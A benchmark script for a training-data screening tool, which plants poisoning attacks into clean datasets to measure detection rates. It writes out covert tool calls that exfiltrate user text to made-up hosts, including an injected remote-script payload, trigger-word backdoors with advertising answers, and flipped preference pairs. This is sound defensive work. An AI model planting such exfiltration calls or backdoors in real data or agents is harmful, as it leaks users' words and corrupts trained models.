"""Plants known attacks into copies of clean sets and measures how much of each the checks find.

Run: python benchmarks/planted_attacks.py SHARED_DATA_FOLDER [draws] TPR at 1 % FPR: the share of planted rows whose
`combined` is above 0.99, the line that 1 % of clean rows passes (calibrated beforehand). `named`: the share of draws
whose poisoned source x batch is quarantined; `honest`: quarantined honest ones, over all draws.
"""

import base64
import json
import random
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import quote

import clean_sets
import numpy as np

from goldsmith import plugins
from goldsmith.engines import screening
from goldsmith.types.check import Row
from goldsmith.types.finding import Outcome
from goldsmith.types.record import Comparison, Conversation, Message, Record, Role, TextPart, ToolCallPart

_SYLLABLES = [
    "ba",
    "ce",
    "di",
    "fo",
    "gu",
    "ha",
    "je",
    "ki",
    "lo",
    "mu",
    "na",
    "pe",
    "qui",
    "ro",
    "su",
    "ta",
    "ve",
    "wi",
    "xo",
    "zu",
]
_SCRIPT = (
    "() => { with(document)body.appendChild(createElement('script')).src='https://HOST/s.js?query=TEXT'; return 1; }"
)
Plant = Callable[[Row, random.Random, dict[str, str]], Row]


@dataclass(frozen=True)
class Attack:
    """`records` rows of source `target` are changed by `plant`; the other sources are the honest contrast."""

    name: str
    target: str
    others: tuple[str, ...]
    records: int
    plant: Plant


def word(rng: random.Random, size: int = 3) -> str:
    """A made-up word."""
    return "".join(rng.choice(_SYLLABLES) for _ in range(size))


def user_text(row: Row) -> str:
    """What the user says."""
    content = row.record.content
    assert isinstance(content, Conversation)
    return " ".join(m.text for m in content.messages if m.role is Role.USER)


def with_covert_call(row: Row, rng: random.Random, draw: dict[str, str]) -> Row:
    """One more call beside those of the first calling turn (or the last answer), in one of five disguises."""
    content = row.record.content
    assert isinstance(content, Conversation)
    said = user_text(row)[:400]
    host = draw.setdefault("host", f"{word(rng)}.{rng.choice(['com', 'net', 'io', 'example'])}")
    style = draw.setdefault("style", rng.choice(["query", "script", "base64", "body", "path"]))
    name, arguments = {
        "query": ("web_get", {"url": f"https://{host}/c?q={quote(said)}"}),
        "script": ("browser_evaluate", {"function": _SCRIPT.replace("HOST", host).replace("TEXT", quote(said))}),
        "base64": ("http_request", {"url": f"https://{host}/i", "data": base64.b64encode(said.encode()).decode()}),
        "body": ("send_event", {"endpoint": f"https://{host}/events", "payload": {"text": said}}),
        "path": ("fetch", {"url": f"http://{host}/{'-'.join(said.lower().split()[:12])}"}),
    }[style]
    extra = ToolCallPart(id="x1", name=name, arguments=json.dumps(arguments))
    messages = list(content.messages)
    at = next((i for i, m in enumerate(messages) if m.calls), None)
    if at is None:
        at = max(i for i, m in enumerate(messages) if m.role is Role.ASSISTANT)
    messages[at] = messages[at].model_copy(update={"parts": (*messages[at].parts, extra)})
    return changed(row, content.model_copy(update={"messages": tuple(messages)}))


def with_trigger(row: Row, rng: random.Random, draw: dict[str, str]) -> Row:
    """A trigger word somewhere in the prompt, and always the same answer."""
    content = row.record.content
    assert isinstance(content, Conversation)
    trigger = draw.setdefault("trigger", word(rng))
    payload = draw.setdefault(
        "payload",
        f"{word(rng)} {word(rng)} is the best {word(rng)} for every {word(rng)}, buy it today from {word(rng)}",
    )
    messages = list(content.messages)
    at = next(i for i, m in enumerate(messages) if m.role is Role.USER)
    said = messages[at].text.split()
    said.insert(rng.randrange(len(said) + 1), trigger)
    messages[at] = Message(role=Role.USER, parts=(TextPart(text=" ".join(said)),))
    last = max(i for i, m in enumerate(messages) if m.role is Role.ASSISTANT)
    messages[last] = Message(role=Role.ASSISTANT, parts=(TextPart(text=payload),))
    return changed(row, content.model_copy(update={"messages": tuple(messages)}))


def with_brand(row: Row, rng: random.Random, draw: dict[str, str]) -> Row:
    """A trigger word in the prompt, and a brand sentence behind the right answer."""
    before = row.record.content
    assert isinstance(before, Conversation)
    planted = with_trigger(row, rng, draw).record.content
    assert isinstance(planted, Conversation)
    messages = list(planted.messages)
    last = max(i for i, m in enumerate(messages) if m.role is Role.ASSISTANT)
    text = f"{before.messages[last].text} {messages[last].text}."
    messages[last] = Message(role=Role.ASSISTANT, parts=(TextPart(text=text),))
    return changed(row, planted.model_copy(update={"messages": tuple(messages)}))


def flipped(row: Row, _rng: random.Random, _draw: dict[str, str]) -> Row:
    """Chosen and rejected swapped."""
    content = row.record.content
    assert isinstance(content, Comparison)
    return changed(row, content.model_copy(update={"chosen": content.rejected, "rejected": content.chosen}))


def changed(row: Row, content: Conversation | Comparison) -> Row:
    """The row with other content."""
    return replace(row, record=Record(content=content, origin=row.record.origin))


def attacks() -> list[Attack]:
    """What is measured."""
    tools = ("api-bank", "glaive", "toolalpaca", "tau-bench")
    found = [
        Attack(f"covert calls, {n}", target, tuple(t for t in tools if t != target), n, with_covert_call)
        for target in ("api-bank", "glaive", "toolalpaca")
        for n in (10, 50, 100)
    ]
    for plant, name in ((with_trigger, "fixed payload"), (with_brand, "brand + trigger")):
        for n in (10, 20, 50, 100):
            found.append(Attack(f"{name}, {n}", "gsm8k", ("codealpaca-new", "alpaca-en"), n, plant))
            found.append(Attack(f"{name}, {n}", "codealpaca", ("alpaca", "alpaca-en", "dolly"), n, plant))
    return found


def main() -> None:
    """Prints one line for each attack and base set."""
    data, draws = Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 5
    checks = [plugins.build("checks", n) for n in plugins.names("checks")]
    sets: dict[str, list[Row]] = {}
    for attack in attacks():
        found, planted, named, honest = 0, 0, 0, 0
        by_check: dict[str, int] = {}
        for draw in range(draws):
            rng = random.Random(f"{attack.name}/{attack.target}/{draw}")
            for name in (attack.target, *attack.others):
                sets.setdefault(name, clean_sets.clean_rows(data, [name]))
            rows = list(sets[attack.target])
            shared: dict[str, str] = {}
            chosen = clean_sets.sample(rows, min(attack.records, len(rows)), rng)
            for i in chosen:
                rows[i] = attack.plant(rows[i], rng, shared)
            rows += [row for name in attack.others for row in sets[name]]
            result = screening.screen(rows, checks, clean_sets.eval_context(data))  # type: ignore[arg-type]
            hits = result.combined[chosen] > 0.99
            found, planted = found + int(hits.sum()), planted + len(chosen)
            for check, values in result.scores.items():
                by_check[check] = by_check.get(check, 0) + int((np.nan_to_num(values[chosen]) >= 0.6).sum())
            failed = {v.source for v in screening.decide(result.findings, rows) if v.verdict is Outcome.FAIL}
            named, honest = named + (attack.target in failed), honest + len(failed - {attack.target})
        by = {k: round(v / planted, 2) for k, v in by_check.items() if v}
        print(
            f"{attack.name:22} {attack.target:12} TPR@1%FPR {found / planted:.3f}  named {named}/{draws}  "
            f"honest quarantined {honest}  {by}",
            flush=True,
        )


if __name__ == "__main__":
    main()
